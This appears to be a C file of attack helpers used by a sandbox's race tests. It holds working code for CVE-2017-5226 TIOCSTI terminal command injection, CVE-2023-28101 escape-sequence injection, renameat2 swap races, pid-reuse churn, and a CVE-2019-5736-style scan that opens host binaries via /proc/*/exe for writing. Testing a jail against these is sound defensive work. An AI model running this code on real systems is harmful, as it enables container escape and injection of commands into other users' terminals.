/* SPDX-License-Identifier: BSD-2-Clause
 *
 * Attacks that need time: a name that leads elsewhere from one moment to the next, pids that are used again, the moment in
 * which somebody comes in. tests/races.rs runs them against verbs that work meanwhile.
 */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

/* Exchanges two names until it is killed: between a look and an opening one leads where the other did. */
int swap(const char *one, const char *other)
{
	while (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0)
		;
	perror("renameat2");
	return 1;
}

/* CVE-2017-5226: types a line to whoever reads from this terminal next, if it may. */
int paste_line(const char *line)
{
	int typed = 0;
	for (const char *letter = line; *letter; letter++)
		typed += ioctl(STDIN_FILENO, TIOCSTI, letter) == 0;
	typed += ioctl(STDIN_FILENO, TIOCSTI, "\n") == 0;
	printf("pasted %d\n", typed);
	return 0;
}

/* CVE-2023-28101: calls itself, and what it does, by words that would move a cursor or begin a line of their own. */
int bear_a_name(void)
{
	prctl(PR_SET_NAME, "\033]0;x\007\nforged");
	(void)!mknod(SCRATCH "/\033[2J\nforged line", S_IFBLK | 0600, makedev(1, 0));
	fputs("said \033]0;x\007\rforged line\n", stderr);
	puts("done");
	fflush(stdout);
	for (;;)
		pause();
}

/* Forks children that end at once, at least so many and until standard input ends. Prints how many there were, and how many
 * of them could signal the host's process, by which one sees whether they were taken for members of a jail. */
int churn(long least, int host)
{
	struct pollfd end = { .fd = STDIN_FILENO, .events = POLLIN };
	long children = 0, reached = 0;
	while (children < least || poll(&end, 1, 0) == 0) {
		int status = 0;
		pid_t child = fork();
		if (child == 0)
			_exit(kill(host, 0) == 0);
		if (child < 0 || waitpid(child, &status, 0) < 0)
			continue;
		children++;
		reached += WIFEXITED(status) && WEXITSTATUS(status) == 1;
	}
	printf("%ld %ld\n", children, reached);
	return 0;
}

/* Does the descriptor hold what the jail sees under that name? The host's own programs have none here. */
static int is_the_jails(int fd, const char *name)
{
	struct stat held, named;
	return fstat(fd, &held) == 0 && stat(name, &named) == 0 && held.st_dev == named.st_dev && held.st_ino == named.st_ino;
}

static void seize_program(const char *pid)
{
	char link[300], name[512], again[64];
	snprintf(link, sizeof link, "/proc/%s/exe", pid);
	int fd = open(link, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
	ssize_t length = readlink(again, name, sizeof name - 1);
	if (length > 0) {
		name[length] = 0;
		if (!is_the_jails(fd, name) && !strstr(name, " (deleted)")) {
			int writable = open(again, O_WRONLY | O_CLOEXEC);
			printf("seized %s%s\n", name, writable < 0 ? "" : ", for writing");
			fflush(stdout);
			close(writable);
		}
	}
	close(fd);
}

/* CVE-2019-5736: opens the program of whoever is seen, until standard input ends, and prints each that is none of the jail's. */
int seize_programs(void)
{
	struct pollfd end = { .fd = STDIN_FILENO, .events = POLLIN };
	puts("ready");
	fflush(stdout);
	while (poll(&end, 1, 0) == 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc)))
			if (strtol(entry->d_name, NULL, 10) > 0)
				seize_program(entry->d_name);
		closedir(proc);
	}
	return 0;
}
